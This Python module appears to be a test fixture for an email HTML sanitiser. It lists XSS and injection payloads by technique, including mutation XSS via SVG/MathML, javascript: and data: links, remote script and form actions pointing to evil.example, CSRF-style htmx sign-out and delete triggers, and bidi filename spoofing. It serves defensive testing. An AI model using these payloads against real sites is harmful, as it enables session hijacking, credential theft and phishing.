"""A corpus of hostile letters: script in every place that HTML allows, and what else a mail should not be able to do."""

CRY = "window.cried=1;alert(1)"
ELSEWHERE = "http://evil.example"
HOSTILE = {
    "script": f"<script>{CRY}</script><script src='{ELSEWHERE}/a.js'></script><SCRIPT\n>{CRY}</SCRIPT\t>",
    "handlers": f"<img src=x onerror='{CRY}'><body onload='{CRY}'><p onmouseover='{CRY}'>p</p>"
    f"<details open ontoggle='{CRY}'>d</details>"
    f"<input autofocus onfocus='{CRY}'><marquee onstart='{CRY}'>m</marquee><video><source onerror='{CRY}'></video>",
    "svg": f"<svg onload='{CRY}'><script>{CRY}</script><animate onbegin='{CRY}' attributeName=x dur=1s></svg>"
    f"<svg><a xlink:href='javascript:{CRY}'><text y=20>x</text></a><use href='{ELSEWHERE}/x.svg#a'/></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={CRY}&gt;'></table></math>"
    f"<math href='javascript:{CRY}'>click</math>",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={CRY}>'></noscript><template>"
    f"<script>{CRY}</script></template>"
    f"<svg></p><style><a id='</style><img src=1 onerror={CRY}>'></svg><xmp><p title='</xmp>"
    f"<img src=x onerror={CRY}>'>",
    "links": f"<a href='javascript:{CRY}'>a</a><a href=' &#1;java&#10;script:{CRY}'>b</a>"
    f"<a href='JaVaScRiPt&colon;{CRY}'>c</a>"
    f"<a href='data:text/html,<script>{CRY}</script>'>d</a><a href='vbscript:x'>e</a>"
    f"<a href='https://good.example/'>good</a>"
    "<a href='/sign-out/' target=_self>f</a><a href='file:///etc/passwd'>g</a><area href='javascript:x'>",
    "frames": f"<iframe src='javascript:{CRY}'></iframe><iframe srcdoc='<script>{CRY}</script>'></iframe>"
    f"<object data='data:text/html,<script>{CRY}</script>'></object><embed src='{ELSEWHERE}/a.swf'><frameset>"
    f"<frame src='{ELSEWHERE}'></frameset>",
    "head": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href='{ELSEWHERE}/'>"
    f"<link rel=stylesheet href='{ELSEWHERE}/a.css'>"
    f"<title>t</title><link rel=prefetch href='{ELSEWHERE}/p'><link rel=import href='{ELSEWHERE}'>",
    "forms": f"<form action='{ELSEWHERE}'><input name=password type=password>"
    f"<button formaction='javascript:{CRY}'>Sign in</button></form>"
    "<form id=composer><input id=id_text name=csrfmiddlewaretoken value=x></form><button form=composer>Send</button>",
    "styles": f"<style>*{{display:none!important}} @import url({ELSEWHERE}/a.css);</style>"
    f"<div style='position:fixed;inset:0;z-index:99999;background:red url({ELSEWHERE}/t.png)'>COVER</div>"
    "<div class='top-bar menu dialog' style='position:absolute;top:-9999px;left:0;width:9999px;height:9999px'>COVER</div>"
    "<table width=99999 height=99999 background='http://evil.example/b.png'><tr><td>wide</td></tr></table>"
    "<p style='transform:scale(99);margin:-9999px;behavior:url(x);-moz-binding:url(x)'>far</p>"
    "<div id=content class=visually-hidden hidden dir=rtl>hidden</div>",
    "images": f"<img src='{ELSEWHERE}/pixel.gif'><img srcset='{ELSEWHERE}/2.png 2x' src=''><picture>"
    f"<source srcset='{ELSEWHERE}/3.png'></picture>"
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{CRY}"/>\'>'
    f"<video poster='{ELSEWHERE}/v.png' autoplay></video>"
    f"<audio src='{ELSEWHERE}/a.mp3' autoplay></audio><input type=image src='{ELSEWHERE}/i.png'>"
    f"<img src='//evil.example/x.png'>",
    "live pages": f"<div hx-get='{ELSEWHERE}' hx-trigger=load hx-on::load='{CRY}'>h</div>"
    f"<div data-hx-get='/sign-out/' data-hx-trigger=load>h</div>"
    "<div hx-delete='/requests/1/deletion' hx-trigger='load'>x</div><div sse-connect='/live' hx-ext=sse>s</div>",
    "template": f"{{{{ 7|add:7 }}}} {{% load static %}} ${{7*7}} "
    f"<p>&lt;script&gt;{CRY}&lt;/script&gt;</p> \x00 <scr\x00ipt>{CRY}</scr\x00ipt>",
}
TRICKS = {
    "name": (
        '"Eva \u202egpj.exe\u2066 <b onmouseover=alert(1)>\u200b\u0000"',
        "<img src=x onerror=window.cried=1> \u202eexe.fdp",
    ),
    "markup": ('"<script>window.cried=1</script>"', '"><script>window.cried=1</script>{{ 7|add:7 }}'),
    "header": ('"Ben Jansen ben@balie.example"', "Re: \u2067\u202etxt.laptop\u2029\u0085 zero\u200bwidth\ufeff"),
}
